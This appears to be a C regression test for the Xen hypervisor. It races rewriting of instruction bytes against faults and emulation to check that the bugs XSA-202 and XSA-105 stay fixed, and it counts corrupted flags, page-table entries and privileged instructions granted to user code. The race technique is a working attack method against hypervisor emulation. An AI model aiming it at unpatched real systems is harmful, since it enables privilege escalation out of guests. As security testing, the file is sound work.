/*
 * An instruction that is replaced between its fault and the hypervisor's look at it. On Xen a write
 * to a page table became CLI, and the emulator's flags the guest's own, with interrupts off
 * (XSA-202); and what a user's fault became was done with the kernel's rights (XSA-105). Other vCPUs
 * rewrite the code all the while. dom0_max_vcpus=2 or more.
 */
#include "guest.h"

#define CODE_VA 0x700000UL
#define EFLAGS_IOPL 0x3000u
#define BIT_AVAILABLE 0x200UL

static volatile uint8_t *code;
static volatile uint64_t *table;
static uint64_t nr_rewritten, nr_done, nr_other, nr_rounds, nr_wrong_flags, nr_wrong_entries;

/*
 * A base instruction, and bytes that make it another one. Only one byte differs at any time, so what
 * is executed is one of them as a whole, in whatever pieces a CPU or an emulator fetches it.
 */
struct change {
    uint8_t at, byte;
};
static const struct change in_kernel[] = {
    /* 48 0f b1 07: cmpxchg %rax, (%rdi), to the page table */
    { 2, 0x22 }, /* mov %rdi, %cr0 */
    { 2, 0x30 }, /* wrmsr */
    { 2, 0x06 }, /* clts */
    { 2, 0x23 }, /* mov %rdi, %dr0 */
    { 2, 0x01 }, /* sgdt (%rdi) */
    { 2, 0x07 }, /* sysret */
    { 2, 0xc1 }, /* xadd %rax, (%rdi) */
    { 0, 0xfa }, /* cli */
    { 0, 0xf4 }, /* hlt */
};
static const struct change in_user[] = {
    /* 0f 20 c0: mov %cr0, %rax */
    { 1, 0x22 }, /* mov %rax, %cr0 */
    { 1, 0x06 }, /* clts */
    { 1, 0x23 }, /* mov %rax, %dr0 */
    { 1, 0x30 }, /* wrmsr */
    { 1, 0x32 }, /* rdmsr */
    { 0, 0xfa }, /* cli */
    { 0, 0xf4 }, /* hlt */
};
static const struct change *changes;
static unsigned int nr_changes;

static void wait_a_while(void)
{
    for (unsigned int i = random() % 2000; i > 0; i--)
        barrier();
}

/* By one vCPU; else two bytes could differ. */
static void rewrite(unsigned int me)
{
    while (me == 1 && phase_on()) {
        const struct change *c = &changes[random() % nr_changes];
        uint8_t base = code[c->at];

        wait_a_while();
        code[c->at] = c->byte;
        wait_a_while();
        code[c->at] = base;
        nr_rewritten++;
    }
}

/* What may be in the entry: nothing, or what the code stores. */
static void check_table(void)
{
    nr_wrong_entries += (table[8] & ~BIT_AVAILABLE) != 0 || table[7] != 0 || table[9] != 0;
}

static void kernel_race(unsigned int me)
{
    uint64_t rax, flags;

    if (me) {
        rewrite(me);
        return;
    }
    while (phase_on()) {
        rax = BIT_AVAILABLE;
        TRY("lea 1f(%%rip), %%rbx\n jmp *%[code]\n1:",
            : "+a"(rax)
            : [code] "r"(code), "D"(&table[8]), "c"(0xc0000080L), "d"(0L)
            : "rbx", "memory", "cc");
        nr_done += trapped(-1);
        nr_other += trapped(TRAP_PF); /* it was a write when it faulted, and then no more */
        __asm__ volatile("pushfq\n pop %0" : "=r"(flags));
        nr_wrong_flags += !(flags & EFLAGS_IF) || (flags & EFLAGS_IOPL);
        check_table();
        if (nr_rounds++ % 16 == 0)
            mmu_update(virt_to_maddr((void *)&table[8]), 0);
    }
}

static uint64_t nr_users, nr_granted;

static void user_race(unsigned int me)
{
    struct cpu_user_regs r;
    int v;

    if (me) {
        rewrite(me);
        return;
    }
    while (phase_on()) {
        user_regs_init(&r, user_code_start);
        r.rip = CODE_VA;
        r.rcx = 0xc0000080;
        r.rdx = 0x71;
        v = user_run(&r);
        nr_users++;
        nr_granted += v != TRAP_GP || r.rax != 0;
    }
}

/* The instruction, four bytes for what is left of a shorter one, and the way out. */
static void use(const struct change *list, unsigned int nr, uint32_t base, uint32_t exit_insn)
{
    changes = list;
    nr_changes = nr;
    *(volatile uint32_t *)code = base;
    *(volatile uint32_t *)(code + 4) = exit_insn;
}

void test_main(void)
{
    struct physdev_set_iopl iopl = { .iopl = 0 };
    uint64_t cr0, cr0_after;

    smp_init();
    trap_hooks[TRAP_PF] = NULL; /* faults end in TRY() */
    CHECK_EQ(hc(physdev_op, PHYSDEVOP_set_iopl, &iopl), 0);
    code = page_alloc();
    table = page_alloc();
    page_set_ro((void *)table);
    CHECK_EQ(pin(1, (void *)table), 0);
    user_init_with(CODE_VA, virt_to_mfn((void *)code));
    __asm__ volatile("mov %%cr0, %0" : "=r"(cr0));
    use(in_kernel, ARRAY_SIZE(in_kernel), 0x07b10f48, 0x9090e3ff); /* jmp *%rbx */
    phase("page-table writes", 1500, kernel_race);
    print("xsa_202: %lu rounds, %lu rewritten, %lu done, %lu were something else when looked at\n",
          nr_rounds, nr_rewritten, nr_done, nr_other);
    CHECK(nr_done > 0);
    attack("kernel.flags", (long)nr_wrong_flags, 0);
    attack("kernel.entries", (long)nr_wrong_entries, 0);
    use(in_user, ARRAY_SIZE(in_user), 0x90c0200f, 0x0b0f050f); /* syscall; ud2 */
    phase("user's faults", 1500, user_race);
    print("xsa_202: %lu faults of the user\n", nr_users);
    CHECK(nr_users > 0);
    attack("user.granted", (long)nr_granted, 0);
    __asm__ volatile("mov %%cr0, %0" : "=r"(cr0_after));
    CHECK_EQ(cr0_after, cr0);
    CHECK_EQ(unpin((void *)table), 0);
}
